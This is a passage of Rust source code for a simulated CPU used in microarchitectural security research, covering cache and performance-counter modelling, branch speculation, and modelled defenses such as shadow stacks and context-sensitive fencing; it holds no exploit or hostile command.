                crate::image::RelocKind::Imm32 => {
                    self.mem.poke(field, &(target as u32).to_le_bytes());
                }
                crate::image::RelocKind::Abs64 => {
                    self.mem.poke(field, &target.to_le_bytes());
                }
            }
        }
        let symbols: BTreeMap<String, u64> =
            image.symbols.iter().map(|(k, v)| (k.clone(), base + v)).collect();
        let li = LoadedImage {
            name: image.name.clone(),
            base,
            entry: base + image.entry,
            symbols,
            exec_ranges,
        };
        self.next_base = base + size + PAGE_SIZE; // guard gap between images
        self.loaded.push(li.clone());
        Ok(li)
    }

    /// Bump-allocates `len` bytes of heap with the given permissions and
    /// returns the guest address (page-aligned).
    ///
    /// # Panics
    ///
    /// Panics when the heap would run into the stack.
    pub fn alloc(&mut self, len: u64, perms: Perms) -> u64 {
        let addr = self.heap_next;
        let size = len.div_ceil(PAGE_SIZE) * PAGE_SIZE;
        assert!(addr + size < self.stack_lo, "heap exhausted");
        self.mem.set_perms(addr, size, perms);
        self.heap_next += size;
        addr
    }

    /// Resets architectural state and points the machine at `entry`.
    ///
    /// Microarchitectural state (caches, predictors, PMU) is preserved so
    /// campaigns can run warm; call [`Machine::reset_microarch`] for a cold
    /// start.
    pub fn start(&mut self, entry: u64) {
        self.regs = [0; 16];
        self.reg_ready = [0; 16];
        // Leave a page of headroom below the stack top (the analogue of
        // argv/env living above the initial frame on a real process).
        self.regs[Reg::SP.index()] = self.stack_hi - PAGE_SIZE;
        self.pc = entry;
        self.stopped = None;
        self.exec_returns.clear();
        self.shadow_stack.clear();
    }

    /// Like [`Machine::start`], additionally copying `arg` into the
    /// argument area and passing it as `(r1 = ptr, r2 = len)` — the
    /// machine's `argv[1]`.
    ///
    /// # Panics
    ///
    /// Panics if `arg` exceeds the argument area.
    pub fn start_with_arg(&mut self, entry: u64, arg: &[u8]) {
        assert!((arg.len() as u64) < ARG_SIZE, "argument too large");
        self.start(entry);
        self.mem.poke(ARG_BASE, arg);
        // NUL-terminate for C-string style consumers.
        self.mem.poke(ARG_BASE + arg.len() as u64, &[0]);
        self.regs[Reg::R1.index()] = ARG_BASE;
        self.regs[Reg::R2.index()] = arg.len() as u64;
    }

    /// Flushes caches and resets predictors and the PMU (cold start).
    pub fn reset_microarch(&mut self) {
        self.apply_pending_ifetches();
        self.apply_pending_dfetches();
        self.caches.flush_all();
        self.pred = Predictor::new();
        self.pmu.reset();
        self.cycle = 0;
        self.retired = 0;
        self.last_evictions.set(0);
        self.pend_l1i = [const { Cell::new(0) }; 3];
        self.cycles_flushed.set(0);
        self.instrs_flushed.set(0);
    }

    // ---------------------------------------------------------------
    // Accessors
    // ---------------------------------------------------------------

    /// Current value of a register.
    pub fn reg(&self, r: Reg) -> u64 {
        self.regs[r.index()]
    }

    /// Sets a register (test/exploit setup convenience).
    pub fn set_reg(&mut self, r: Reg, value: u64) {
        self.regs[r.index()] = value;
    }

    /// The program counter.
    pub fn pc(&self) -> u64 {
        self.pc
    }

    /// Elapsed cycles.
    pub fn cycles(&self) -> u64 {
        self.cycle
    }

    /// Architecturally retired instructions.
    pub fn instructions(&self) -> u64 {
        self.retired
    }

    /// The performance-counter bank.
    ///
    /// Reading the PMU is the reconciliation point for the fast path's
    /// batched counters: pending L1i counts, the cycle/instruction
    /// mirrors, and the eviction mirror are settled here, so samplers
    /// reading between steps (the HPC profiler) always observe exact
    /// totals — identical to the per-step mirroring of the reference
    /// implementation.
    pub fn pmu(&self) -> &Pmu {
        self.flush_pending_counters();
        self.sync_eviction_counter();
        &self.pmu
    }

    /// The cache hierarchy (inspection).
    pub fn caches(&self) -> &CacheHierarchy {
        &self.caches
    }

    /// The cache hierarchy (mutation — e.g. priming experiments).
    pub fn caches_mut(&mut self) -> &mut CacheHierarchy {
        self.apply_pending_ifetches();
        self.apply_pending_dfetches();
        &mut self.caches
    }

    /// Guest memory (inspection).
    pub fn mem(&self) -> &Memory {
        &self.mem
    }

    /// Guest memory (mutation — exploit/test setup).
    pub fn mem_mut(&mut self) -> &mut Memory {
        &mut self.mem
    }

    /// Bytes the guest wrote through the `write` syscall.
    pub fn stdout(&self) -> &[u8] {
        &self.stdout
    }

    /// Drains and returns the stdout buffer.
    pub fn take_stdout(&mut self) -> Vec<u8> {
        std::mem::take(&mut self.stdout)
    }

    /// The stack's `[lo, hi)` range.
    pub fn stack_range(&self) -> (u64, u64) {
        (self.stack_lo, self.stack_hi)
    }

    /// The stack pointer a fresh [`Machine::start`] establishes — exploit
    /// authors use this to predict buffer addresses (no stack ASLR, as in
    /// the paper's threat model).
    pub fn initial_sp(&self) -> u64 {
        self.stack_hi - PAGE_SIZE
    }

    /// The stack canary value (the defender's secret; exposed for tests
    /// and for modelling canary-leak bypasses).
    pub fn canary(&self) -> u64 {
        self.canary
    }

    /// Images loaded so far.
    pub fn loaded_images(&self) -> &[LoadedImage] {
        &self.loaded
    }

    /// Cycle spans during which `exec`-injected images ran. A span still
    /// open at run end has `end == u64::MAX`.
    pub fn injection_spans(&self) -> &[(u64, u64)] {
        &self.exec_spans
    }

    /// Whether the run has stopped, and why.
    pub fn exit_reason(&self) -> Option<&ExitReason> {
        self.stopped.as_ref()
    }

    /// The machine configuration.
    pub fn config(&self) -> &MachineConfig {
        &self.cfg
    }

    // ---------------------------------------------------------------
    // Execution
    // ---------------------------------------------------------------

    /// Runs until the guest halts, exits or faults.
    pub fn run(&mut self) -> RunOutcome {
        let mut span = telemetry::span("sim.run");
        loop {
            if let StepStatus::Done(exit) = self.step() {
                if span.is_recording() {
                    span.field("exit", format!("{exit:?}"))
                        .field("instructions", self.retired)
                        .field("cycles", self.cycle);
                    self.emit_telemetry();
                }
                return RunOutcome {
                    exit,
                    instructions: self.retired,
                    cycles: self.cycle,
                };
            }
        }
    }

    /// Publishes this machine's cumulative PMU and cache activity to the
    /// global telemetry layer (counters under `sim.*`).
    ///
    /// Called once per completed run — never from the step loop, so the
    /// hot path pays nothing beyond one relaxed atomic load, and nothing
    /// at all when telemetry is disabled. Observation only for guest
    /// state: reads the PMU/caches (after settling any coalesced fetch
    /// counts), never the RNG or architectural state.
    pub fn emit_telemetry(&mut self) {
        if !telemetry::enabled() {
            return;
        }
        self.apply_pending_ifetches();
        self.apply_pending_dfetches();
        let pmu = self.pmu();
        telemetry::counter("sim.runs", 1);
        telemetry::counter("sim.instructions", pmu.count(HpcEvent::Instructions));
        telemetry::counter("sim.cycles", pmu.count(HpcEvent::Cycles));
        telemetry::counter("sim.spec_instrs", pmu.count(HpcEvent::SpecInstrs));
        telemetry::counter("sim.spec_squashes", pmu.count(HpcEvent::SpecSquashes));
        telemetry::counter("sim.branch_mispredicts", pmu.count(HpcEvent::BranchMispredicts));
        telemetry::counter("sim.stall_cycles_mem", pmu.count(HpcEvent::StallCyclesMem));
        telemetry::counter("sim.stall_cycles_branch", pmu.count(HpcEvent::StallCyclesBranch));
        telemetry::counter("sim.flushes", pmu.count(HpcEvent::Flushes));
        self.caches.emit_telemetry();
    }

    /// Runs up to `limit` architectural instructions, recording each
    /// `(pc, instruction)` executed — the debugger's trace view. Stops at
    /// the limit or when the machine stops, returning the trace.
    pub fn run_traced(&mut self, limit: usize) -> Vec<(u64, Instr)> {
        let mut trace = Vec::with_capacity(limit.min(4096));
        for _ in 0..limit {
            let pc = self.pc;
            // Peek: decode without microarchitectural effects — the `step`
            // below performs the real fetch.
            let decoded = self.fetch_decode(pc, FetchMode::Peek).ok();
            match self.step() {
                StepStatus::Running => {
                    if let Some(instr) = decoded {
                        trace.push((pc, instr));
                    }
                }
                StepStatus::Done(_) => {
                    if let Some(instr) = decoded {
                        trace.push((pc, instr));
                    }
                    break;
                }
            }
        }
        trace
    }

    /// Executes one architectural instruction (including any transient
    /// execution it triggers) and reports whether the machine still runs.
    ///
    /// On the fast path, batched counters are settled lazily when the PMU
    /// is observed ([`Machine::pmu`]), so samplers reading it between
    /// steps — the HPC profiler — observe exact totals without the hot
    /// loop paying a per-step mirror cost. The slow path reconciles the
    /// eviction mirror every step, as the reference implementation did.
    pub fn step(&mut self) -> StepStatus {
        if let Some(exit) = &self.stopped {
            return StepStatus::Done(exit.clone());
        }
        if self.retired >= self.cfg.max_instructions {
            return self.stop_fault(Fault::MaxInstructions);
        }
        let status = self.step_inner();
        if !self.cfg.fast_path {
            self.sync_eviction_counter();
        }
        status
    }

    fn step_inner(&mut self) -> StepStatus {
        let pc = self.pc;
        let instr = match self.fetch_decode(pc, FetchMode::Step) {
            Ok(instr) => instr,
            Err(FetchFail::Mem(fault)) => {
                self.pmu.incr(HpcEvent::PageFaults);
                return self.stop_fault(Fault::Mem(fault));
            }
            Err(FetchFail::Decode) => return self.stop_fault(Fault::Decode { pc }),
        };
        self.retired += 1;
        if !self.cfg.fast_path {
            self.pmu.incr(HpcEvent::Instructions);
            self.instrs_flushed.set(self.retired);
        }
        self.exec(pc, instr)
    }

    /// The single fetch+decode choke point shared by `step`, `speculate`
    /// and `run_traced`.
    ///
    /// Side-effect order matches the historical open-coded sites exactly:
    /// a permission fault reports before any icache activity; a decode
    /// error reports after it. A predecode-cache hit short-circuits both
    /// the permission walk and the decode, which is sound because every
    /// code mutation (`poke`, store to an executable page, `set_perms`)
    /// moves [`Memory::code_epoch`] and drops the cache.
    fn fetch_decode(&mut self, pc: u64, mode: FetchMode) -> Result<Instr, FetchFail> {
        let fast = self.cfg.fast_path;
        if fast {
            if self.dcache.epoch != self.mem.code_epoch() {
                self.dcache.clear(self.mem.code_epoch());
            } else {
                let slot = DecodeCache::slot(pc);
                if self.dcache.tags[slot] == pc {
                    let instr = self.dcache.instrs[slot];
                    if mode != FetchMode::Peek
                        && !self.icoal.note(pc & self.icoal.line_mask)
                    {
                        // Untracked line: take the full fetch-count path.
                        self.count_instr_fetch(pc, mode);
                    }
                    return Ok(instr);
                }
            }
        }
        let mut bytes = [0u8; INSTR_BYTES];
        self.mem.fetch(pc, &mut bytes).map_err(FetchFail::Mem)?;
        if mode != FetchMode::Peek {
            self.count_instr_fetch(pc, mode);
        }
        let instr = Instr::decode(&bytes).map_err(|_| FetchFail::Decode)?;
        if fast {
            let slot = DecodeCache::slot(pc);
            self.dcache.tags[slot] = pc;
            self.dcache.instrs[slot] = instr;
        }
        Ok(instr)
    }

    /// Instruction-cache access for a fetch at `pc`.
    ///
    /// Fast path: fetches on a line the coalescer tracks are L1i hits by
    /// construction (tracked lines stay resident — only hits happen
    /// between batch applications, and hits never evict), so they bypass
    /// the cache model entirely and coalesce into deferred bulk-hits.
    /// An untracked-but-resident line joins the table via a read-only
    /// probe; a genuine miss applies the batch, runs the real access,
    /// and (for architectural fetches) pays the miss latency immediately
    /// since it orders the rest of the step. Non-coalesced L1i counter
    /// updates are batched into `pend_l1i`.
    ///
    /// Slow path: the seed implementation — a full cache-model access
    /// and immediate PMU increments per fetch.
    fn count_instr_fetch(&mut self, pc: u64, mode: FetchMode) {
        if self.cfg.fast_path {
            let line = pc & self.icoal.line_mask;
            // One counter bump covers the model hit and both PMU
            // events; the split happens at apply/flush time.
            if self.icoal.note(line) {
                return;
            }
            let mut slot = self.icoal.free_slot();
            if slot.is_none() {
                self.apply_pending_ifetches();
                slot = Some(0);
            }
            if self.caches.l1i_probe(line) {
                self.icoal.insert_hit(slot.expect("slot freed above"), line);
                return;
            }
            self.apply_pending_ifetches();
            let fetch = self.caches.access_instr(pc);
            self.icoal.insert_seeded(0, line);
            bump(&self.pend_l1i[0]);
            if fetch.l1_hit {
                bump(&self.pend_l1i[1]);
            } else {
                bump(&self.pend_l1i[2]);
                if mode == FetchMode::Step {
                    self.tick(fetch.latency);
                }
            }
        } else {
            let fetch = self.caches.access_instr(pc);
            self.pmu.incr(HpcEvent::L1iAccess);
            if fetch.l1_hit {
                self.pmu.incr(HpcEvent::L1iHit);
            } else {
                self.pmu.incr(HpcEvent::L1iMiss);
                if mode == FetchMode::Step {
                    self.tick(fetch.latency);
                }
            }
        }
    }

    /// Applies the coalesced same-line fetch hits to the L1i model.
    /// Must run before anything that could observe or disturb L1i state:
    /// a different-line fetch, a line flush, a microarchitectural reset,
    /// telemetry emission, handing out `&mut CacheHierarchy`, or the
    /// machine stopping.
    fn apply_pending_ifetches(&mut self) {
        let (entries, n, total, accounted) = self.icoal.drain();
        if total > 0 {
            self.caches.l1i_bulk_batch(&entries[..n], total);
            // Only the portion a PMU flush has not already mirrored.
            let unaccounted = total - accounted;
            if unaccounted > 0 {
                self.pmu.add(HpcEvent::L1iAccess, unaccounted);
                self.pmu.add(HpcEvent::L1iHit, unaccounted);
            }
        }
    }

    /// Applies the coalesced data hits to the L1d model — the data-side
    /// counterpart of [`Machine::apply_pending_ifetches`], with the same
    /// ordering obligations.
    fn apply_pending_dfetches(&mut self) {
        let (entries, n, total, accounted) = self.dcoal.drain();
        if total > 0 {
            self.caches.l1d_bulk_batch(&entries[..n], total);
            let unaccounted = total - accounted;
            if unaccounted > 0 {
                self.pmu.add(HpcEvent::L1dAccess, unaccounted);
                self.pmu.add(HpcEvent::L1dHit, unaccounted);
                self.pmu.add(HpcEvent::TotalCacheAccess, unaccounted);
            }
        }
    }

    /// Mirrors the batched counters into the PMU: pending L1i counts plus
    /// the cycle and retired-instruction deltas since the previous flush.
    /// Runs whenever the PMU is observed ([`Machine::pmu`]) and at
    /// speculation squash, so PMU readers sampling between steps always
    /// see exact totals. `&self` (over `Cell` state) so the observation
    /// accessor can reconcile.
    fn flush_pending_counters(&self) {
        // Coalesced same-line hits not yet applied to the cache model:
        // mirror the PMU-visible portion now and remember how much, so the
        // eventual apply only adds the remainder.
        let delta = self.icoal.pending.get() - self.icoal.accounted.get();
        if delta > 0 {
            self.pmu.add(HpcEvent::L1iAccess, delta);
            self.pmu.add(HpcEvent::L1iHit, delta);
            self.icoal.accounted.set(self.icoal.pending.get());
        }
        let delta = self.dcoal.pending.get() - self.dcoal.accounted.get();
        if delta > 0 {
            self.pmu.add(HpcEvent::L1dAccess, delta);
            self.pmu.add(HpcEvent::L1dHit, delta);
            self.pmu.add(HpcEvent::TotalCacheAccess, delta);
            self.dcoal.accounted.set(self.dcoal.pending.get());
        }
        let access = self.pend_l1i[0].replace(0);
        if access > 0 {
            self.pmu.add(HpcEvent::L1iAccess, access);
            self.pmu.add(HpcEvent::L1iHit, self.pend_l1i[1].replace(0));
            self.pmu.add(HpcEvent::L1iMiss, self.pend_l1i[2].replace(0));
        }
        if self.cycle > self.cycles_flushed.get() {
            self.pmu.add(HpcEvent::Cycles, self.cycle - self.cycles_flushed.get());
            self.cycles_flushed.set(self.cycle);
        }
        if self.retired > self.instrs_flushed.get() {
            self.pmu.add(HpcEvent::Instructions, self.retired - self.instrs_flushed.get());
            self.instrs_flushed.set(self.retired);
        }
    }

    fn sync_eviction_counter(&self) {
        let total = self.caches.total_evictions();
        let delta = total - self.last_evictions.get();
        if delta > 0 {
            self.pmu.add(HpcEvent::CacheEvictions, delta);
            self.last_evictions.set(total);
        }
    }

    fn stop(&mut self, exit: ExitReason) -> StepStatus {
        self.apply_pending_ifetches();
        self.apply_pending_dfetches();
        self.stopped = Some(exit.clone());
        StepStatus::Done(exit)
    }

    fn stop_fault(&mut self, fault: Fault) -> StepStatus {
        self.stop(ExitReason::Fault(fault))
    }

    /// Advances time. On the fast path the [`HpcEvent::Cycles`] mirror is
    /// updated lazily by [`Machine::flush_pending_counters`] when the PMU
    /// is next observed; the slow path mirrors immediately, like the
    /// reference implementation always did.
    #[inline]
    fn tick(&mut self, n: u64) {
        self.cycle += n;
        if !self.cfg.fast_path {
            self.pmu.add(HpcEvent::Cycles, n);
            self.cycles_flushed.set(self.cycle);
        }
    }

    /// Stalls until every register in `rs` holds a ready value.
    fn wait_ready(&mut self, rs: &[Reg]) {
        let ready = rs.iter().map(|r| self.reg_ready[r.index()]).max().unwrap_or(0);
        if ready > self.cycle {
            let stall = ready - self.cycle;
            self.pmu.add(HpcEvent::StallCyclesMem, stall);
            self.tick(stall);
        }
    }

    /// Cycle at which a branch over `rs` can resolve.
    fn resolve_cycle(&self, rs: &[Reg]) -> u64 {
        let ready = rs.iter().map(|r| self.reg_ready[r.index()]).max().unwrap_or(0);
        ready.max(self.cycle) + BRANCH_RESOLVE_EXTRA
    }

    fn count_data_access(&mut self, result: crate::cache::AccessResult, write: bool) {
        let pmu = &mut self.pmu;
        pmu.incr(HpcEvent::L1dAccess);
        pmu.incr(HpcEvent::TotalCacheAccess);
        if result.l1_hit {
            pmu.incr(HpcEvent::L1dHit);
        } else {
            pmu.incr(HpcEvent::L1dMiss);
            pmu.incr(HpcEvent::TotalCacheMiss);
            pmu.incr(HpcEvent::L2Access);
            if result.l2_hit {
                pmu.incr(HpcEvent::L2Hit);
            } else {
                pmu.incr(HpcEvent::L2Miss);
                if write {
                    pmu.incr(HpcEvent::MemWrites);
                } else {
                    pmu.incr(HpcEvent::MemReads);
                }
            }
        }
    }

    /// Data-cache access for a load or store at `addr` (the data-side
    /// counterpart of [`Machine::count_instr_fetch`]).
    ///
    /// Fast path: accesses to a line the coalescer tracks are L1d hits
    /// by construction (tracked lines stay resident until the batch is
    /// applied), so they coalesce into deferred bulk-hits with the
    /// model's constant L1d hit latency. An untracked-but-resident line
    /// joins the table via a read-only probe; a genuine miss applies the
    /// batch and runs the real access.
    ///
    /// Slow path: the seed implementation — a full cache-model access and
    /// immediate PMU increments per access.
    fn data_access(&mut self, addr: u64, write: bool) -> crate::cache::AccessResult {
        if self.cfg.fast_path {
            let hit = crate::cache::AccessResult {
                latency: self.l1d_hit_latency,
                l1_hit: true,
                l2_hit: false,
            };
            let line = addr & self.dcoal.line_mask;
            if self.dcoal.note(line) {
                return hit;
            }
            let mut slot = self.dcoal.free_slot();
            if slot.is_none() {
                self.apply_pending_dfetches();
                slot = Some(0);
            }
            if self.caches.l1d_probe(line) {
                self.dcoal.insert_hit(slot.expect("slot freed above"), line);
                return hit;
            }
            self.apply_pending_dfetches();
            let result = self.caches.access_data(addr);
            self.dcoal.insert_seeded(0, line);
            self.count_data_access(result, write);
            result
        } else {
            let result = self.caches.access_data(addr);
            self.count_data_access(result, write);
            result
        }
    }

    fn load_value(&mut self, addr: u64, width: Width) -> Result<(u64, u64), Fault> {
        let value = match width {
            Width::B => self.mem.read_u8(addr)? as u64,
            Width::W => self.mem.read_u32(addr)? as u64,
            Width::D => self.mem.read_u64(addr)?,
        };
        let result = self.data_access(addr, false);
        Ok((value, result.latency))
    }

    fn store_value(&mut self, addr: u64, width: Width, value: u64) -> Result<(), Fault> {
        match width {
            Width::B => self.mem.write_u8(addr, value as u8)?,
            Width::W => self.mem.write_u32(addr, value as u32)?,
            Width::D => self.mem.write_u64(addr, value)?,
        }
        self.data_access(addr, true);
        Ok(())
    }

    fn exec(&mut self, pc: u64, instr: Instr) -> StepStatus {
        let mut next_pc = pc.wrapping_add(INSTR_BYTES as u64);
        match instr {
            Instr::Nop => self.tick(1),
            Instr::Halt => {
                self.tick(1);
                return self.stop(ExitReason::Halted);
            }
            Instr::Ldi(rd, imm) => {
                self.regs[rd.index()] = imm as i64 as u64;
                self.reg_ready[rd.index()] = self.cycle;
                self.pmu.incr(HpcEvent::MovOps);
                self.tick(1);
            }
            Instr::Ldih(rd, imm) => {
                self.wait_ready(&[rd]);
                let low = self.regs[rd.index()] & 0xffff_ffff;
                self.regs[rd.index()] = ((imm as u32 as u64) << 32) | low;
                self.reg_ready[rd.index()] = self.cycle;
                self.pmu.incr(HpcEvent::MovOps);
                self.tick(1);
            }
            Instr::Mov(rd, rs) => {
                self.wait_ready(&[rs]);
                self.regs[rd.index()] = self.regs[rs.index()];
                self.reg_ready[rd.index()] = self.cycle;
                self.pmu.incr(HpcEvent::MovOps);
                self.tick(1);
            }
            Instr::Alu(op, rd, rs1, rs2) => {
                self.wait_ready(&[rs1, rs2]);
                self.regs[rd.index()] = op.apply(self.regs[rs1.index()], self.regs[rs2.index()]);
                self.count_alu(op);
                self.tick(alu_latency(op));
                self.reg_ready[rd.index()] = self.cycle;
            }
            Instr::Alui(op, rd, rs1, imm) => {
                self.wait_ready(&[rs1]);
                self.regs[rd.index()] = op.apply(self.regs[rs1.index()], imm as i64 as u64);
                self.pmu.incr(HpcEvent::AluImmOps);
                self.count_alu(op);
                self.tick(alu_latency(op));
                self.reg_ready[rd.index()] = self.cycle;
            }
            Instr::Ld(w, rd, rs1, imm) => {
                self.wait_ready(&[rs1]);
                let addr = self.regs[rs1.index()].wrapping_add(imm as i64 as u64);
                let (value, latency) = match self.load_value(addr, w) {
                    Ok(v) => v,
                    Err(fault) => {
                        self.pmu.incr(HpcEvent::PageFaults);
                        return self.stop_fault(fault);
                    }
                };
                self.pmu.incr(HpcEvent::Loads);
                match w {
                    Width::B => self.pmu.incr(HpcEvent::LoadBytes),
                    Width::D => self.pmu.incr(HpcEvent::LoadDwords),
                    Width::W => {}
                }
                self.regs[rd.index()] = value;
                self.tick(1);
                // InvisiSpec: every committed load re-validates against
                // the speculative buffer before exposure.
                let penalty = if self.cfg.protect.invisispec {
                    self.cfg.invisispec_load_penalty
                } else {
                    0
                };
                // Non-blocking load: value arrives after the cache latency.
                self.reg_ready[rd.index()] = self.cycle + latency + penalty;
            }
            Instr::St(w, rs1, rs2, imm) => {
                self.wait_ready(&[rs1, rs2]);
                let addr = self.regs[rs1.index()].wrapping_add(imm as i64 as u64);
                if let Err(fault) = self.store_value(addr, w, self.regs[rs2.index()]) {
                    self.pmu.incr(HpcEvent::PageFaults);
                    return self.stop_fault(fault);
                }
                self.pmu.incr(HpcEvent::Stores);
                self.tick(1);
            }
            Instr::Br(cond, rs1, rs2, imm) => {
                let taken = cond.holds(self.regs[rs1.index()], self.regs[rs2.index()]);
                let predicted = self.pred.pht.predict(pc);
                let resolve_at = self.resolve_cycle(&[rs1, rs2]);
                self.pred.pht.update(pc, taken);
                self.pmu.incr(HpcEvent::BranchInstrs);
                self.pmu.incr(HpcEvent::CondBranches);
                self.pmu.incr(if taken {
                    HpcEvent::BranchTaken
                } else {
                    HpcEvent::BranchNotTaken
                });
                let target = pc.wrapping_add(imm as i64 as u64);
                if self.cfg.protect.csf {
                    // Context-Sensitive Fencing: an injected fence
                    // serializes the branch — no prediction benefit, no
                    // transient execution past it. Every branch stalls
                    // until it actually resolves.
                    let stall = resolve_at.saturating_sub(self.cycle);
                    self.pmu.add(HpcEvent::StallCyclesBranch, stall);
                    self.tick(stall);
                    self.pmu.incr(HpcEvent::Fences);
                    self.tick(self.cfg.csf_fence_penalty);
                    if predicted != taken {
                        self.pmu.incr(HpcEvent::BranchMispredicts);
                    }
                } else if predicted == taken {
                    self.tick(1);
                } else {
                    self.pmu.incr(HpcEvent::BranchMispredicts);
                    let wrong = if predicted { target } else { next_pc };
                    let budget = resolve_at.saturating_sub(self.cycle);
                    self.speculate(wrong, budget);
                    let stall = resolve_at.saturating_sub(self.cycle) + self.cfg.mispredict_penalty;
                    self.pmu.add(HpcEvent::StallCyclesBranch, stall);
                    self.tick(stall);
                }
                if taken {
                    next_pc = target;
                }
            }
            Instr::Jmp(imm) => {
                self.pmu.incr(HpcEvent::BranchInstrs);
                self.pmu.incr(HpcEvent::Jumps);
                self.tick(1);
                next_pc = pc.wrapping_add(imm as i64 as u64);
            }
            Instr::JmpR(rs) => {
                self.pmu.incr(HpcEvent::BranchInstrs);
                self.pmu.incr(HpcEvent::IndirectBranches);
                let predicted = self.pred.btb.predict(pc);
                let resolve_at = self.resolve_cycle(&[rs]);
                self.wait_ready(&[rs]);
                let target = self.regs[rs.index()];
                self.pred.btb.update(pc, target);
                if predicted == Some(target) {
                    self.tick(1);
                } else {
                    self.pmu.incr(HpcEvent::BtbMispredicts);
                    self.pmu.incr(HpcEvent::BranchMispredicts);
                    if let Some(wrong) = predicted {
                        if !self.cfg.protect.csf {
                            let budget = resolve_at.saturating_sub(self.cycle);
                            self.speculate(wrong, budget);
                        }
                    }
                    let stall = self.cfg.mispredict_penalty;
                    self.pmu.add(HpcEvent::StallCyclesBranch, stall);
                    self.tick(stall);
                }
                next_pc = target;
            }
            Instr::Call(imm) => {
                let ret = next_pc;
                if let Err(status) = self.push_u64(ret) {
                    return status;
                }
                self.pred.rsb.push(ret);
                if self.cfg.protect.shadow_stack {
                    self.shadow_stack.push(ret);
                }
                self.pmu.incr(HpcEvent::BranchInstrs);
                self.pmu.incr(HpcEvent::Calls);
                self.tick(1);
                next_pc = pc.wrapping_add(imm as i64 as u64);
            }
            Instr::CallR(rs) => {
                self.wait_ready(&[rs]);
                let target = self.regs[rs.index()];
                let ret = next_pc;
                if let Err(status) = self.push_u64(ret) {
                    return status;
                }
                self.pred.rsb.push(ret);
                if self.cfg.protect.shadow_stack {
                    self.shadow_stack.push(ret);
                }
                self.pmu.incr(HpcEvent::BranchInstrs);
                self.pmu.incr(HpcEvent::Calls);
                self.pmu.incr(HpcEvent::IndirectBranches);
                let predicted = self.pred.btb.predict(pc);
                self.pred.btb.update(pc, target);
                if predicted != Some(target) {
                    self.pmu.incr(HpcEvent::BtbMispredicts);
                }
                self.tick(1);
                next_pc = target;
            }
            Instr::Ret => {
                self.wait_ready(&[Reg::SP]);
                let sp = self.regs[Reg::SP.index()];
                let (target, latency) = match self.load_value(sp, Width::D) {
                    Ok(v) => v,
                    Err(fault) => {
                        self.pmu.incr(HpcEvent::PageFaults);
                        return self.stop_fault(fault);
                    }
                };
                self.regs[Reg::SP.index()] = sp.wrapping_add(8);
                self.pmu.incr(HpcEvent::BranchInstrs);
                self.pmu.incr(HpcEvent::Returns);
                let predicted = self.pred.rsb.pop();
                let resolve_at = self.cycle + latency + BRANCH_RESOLVE_EXTRA;
                if predicted == Some(target) {
                    self.tick(1);
                } else {
                    // RSB mispredict: transiently execute at the stale
                    // predicted return address (the Spectre-RSB surface; a
                    // ROP chain triggers this on every gadget).
                    self.pmu.incr(HpcEvent::RsbMispredicts);
                    self.pmu.incr(HpcEvent::BranchMispredicts);
                    if let Some(wrong) = predicted {
                        if !self.cfg.protect.csf {
                            let budget = resolve_at.saturating_sub(self.cycle);
                            self.speculate(wrong, budget);
                        }
                    }
                    let stall = resolve_at.saturating_sub(self.cycle) + self.cfg.mispredict_penalty;
                    self.pmu.add(HpcEvent::StallCyclesBranch, stall);
                    self.tick(stall);
                }
                if self.cfg.protect.shadow_stack {
                    let expected = self.shadow_stack.pop().unwrap_or(0);
                    if expected != target {
                        return self.stop_fault(Fault::ShadowStack { expected, got: target });
                    }
                }
                next_pc = target;
            }
            Instr::Push(rs) => {
                self.wait_ready(&[rs, Reg::SP]);
                let value = self.regs[rs.index()];
                if let Err(status) = self.push_u64(value) {
                    return status;
                }
                self.pmu.incr(HpcEvent::Pushes);
                self.tick(1);
            }
            Instr::Pop(rd) => {
                self.wait_ready(&[Reg::SP]);
                let sp = self.regs[Reg::SP.index()];
                let (value, latency) = match self.load_value(sp, Width::D) {
                    Ok(v) => v,
                    Err(fault) => {
                        self.pmu.incr(HpcEvent::PageFaults);
                        return self.stop_fault(fault);
                    }
                };
                self.regs[rd.index()] = value;
                self.regs[Reg::SP.index()] = sp.wrapping_add(8);
                self.pmu.incr(HpcEvent::Pops);
                self.tick(1);
                self.reg_ready[rd.index()] = self.cycle + latency;
            }
            Instr::ClFlush(rs1, imm) => {
                if !self.cfg.protect.clflush_enabled {
                    return self.stop_fault(Fault::ClflushDisabled);
                }
                self.wait_ready(&[rs1]);
                let addr = self.regs[rs1.index()].wrapping_add(imm as i64 as u64);
                self.apply_pending_ifetches();
                self.apply_pending_dfetches();
                self.caches.flush_line(addr);
                self.pmu.incr(HpcEvent::Flushes);
                self.tick(4);
            }
            Instr::MFence => {
                // Serialize: wait for every in-flight value.
                let ready = self.reg_ready.iter().copied().max().unwrap_or(0);
                if ready > self.cycle {
                    let stall = ready - self.cycle;
                    self.pmu.add(HpcEvent::StallCyclesMem, stall);
                    self.tick(stall);
                }
                self.pmu.incr(HpcEvent::Fences);
                self.tick(3);
            }
            Instr::Rdtsc(rd) => {
                self.regs[rd.index()] = self.cycle;
                self.reg_ready[rd.index()] = self.cycle;
                self.pmu.incr(HpcEvent::Rdtscs);
                self.tick(1);
            }
            Instr::Syscall => {
                // Serializing instruction.
                let ready = self.reg_ready.iter().copied().max().unwrap_or(0);
                if ready > self.cycle {
                    let stall = ready - self.cycle;
                    self.tick(stall);
                }
                self.pmu.incr(HpcEvent::Syscalls);
                self.tick(SYSCALL_COST);
                match self.do_syscall(next_pc) {
                    Ok(Some(new_pc)) => next_pc = new_pc,
                    Ok(None) => {}
                    Err(status) => return status,
                }
                if self.stopped.is_some() {
                    return StepStatus::Done(self.stopped.clone().expect("just set"));
                }
            }
        }
        self.pc = next_pc;
        StepStatus::Running
    }

    fn count_alu(&mut self, op: AluOp) {
        self.pmu.incr(HpcEvent::AluOps);
        match op {
            AluOp::Mul => self.pmu.incr(HpcEvent::MulOps),
            AluOp::Divu | AluOp::Remu => self.pmu.incr(HpcEvent::DivOps),
            AluOp::Shl | AluOp::Shr | AluOp::Sar => self.pmu.incr(HpcEvent::ShiftOps),
            _ => {}
        }
    }

    fn push_u64(&mut self, value: u64) -> Result<(), StepStatus> {
        let sp = self.regs[Reg::SP.index()].wrapping_sub(8);
        if let Err(fault) = self.store_value(sp, Width::D, value) {
            self.pmu.incr(HpcEvent::PageFaults);
            return Err(self.stop_fault(fault));
        }
        self.regs[Reg::SP.index()] = sp;
        Ok(())
    }

    fn do_syscall(&mut self, return_pc: u64) -> Result<Option<u64>, StepStatus> {
        let nr = self.regs[Reg::R0.index()];
        match nr {
            sys::EXIT => {
                let code = self.regs[Reg::R1.index()];
                if let Some(ret) = self.exec_returns.pop() {
                    // An injected image finished: resume the interrupted
                    // context at the instruction after its `exec`.
                    if let Some(span) = self
                        .exec_spans
                        .iter_mut()
                        .rev()
